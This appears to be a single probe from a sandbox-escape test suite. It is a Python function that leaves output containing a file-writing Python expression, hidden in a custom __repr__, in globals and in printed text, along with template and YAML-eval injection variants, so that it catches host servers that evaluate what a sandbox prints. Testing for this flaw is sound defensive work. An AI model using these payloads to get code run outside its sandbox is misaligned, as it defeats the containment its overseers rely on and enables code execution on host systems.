# title: Have the server evaluate a result
# tries: Leaves results whose text is an expression of Python that writes to a planted file, as a value, as its repr and as output. Servers that evaluate what a sandbox printed run it outside.
# impact: Escape
# proof: change
# host: impossible, nobody there reads what the code writes
# advice: Read results as JSON; never evaluate what comes out of a sandbox.


def attempt(host):
    expression = f"__import__('pathlib').Path({host['change_file']!r}).write_text({host['mark']!r})"

    class Result:
        def __repr__(self):
            return expression

    globals().update(result=Result(), final_answer=expression, output=Result())
    print(expression)
    print("{{" + expression + "}}", f"${{{expression}}}", f"!!python/object/apply:eval [{expression!r}]", sep="\n")
    return "printed"
